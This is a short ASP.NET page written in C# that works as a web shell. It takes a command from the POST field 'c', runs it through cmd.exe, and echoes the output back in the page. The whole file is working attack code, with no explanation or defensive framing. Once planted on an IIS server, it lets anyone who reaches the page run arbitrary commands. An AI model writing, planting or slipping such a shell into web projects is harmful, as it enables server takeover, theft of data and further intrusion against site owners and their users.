<%@ Page Language="C#" %>
<%@ Import Namespace="System.Diagnostics" %>
<%
string c = Request.Form["c"];
if (c != null) {
    ProcessStartInfo psi = new ProcessStartInfo("cmd.exe", "/c " + c);
    psi.RedirectStandardOutput = true;
    psi.UseShellExecute = false;
    Process p = Process.Start(psi);
    Response.Write("<pre>" + Server.HtmlEncode(p.StandardOutput.ReadToEnd()) + "</pre>");
}
%>
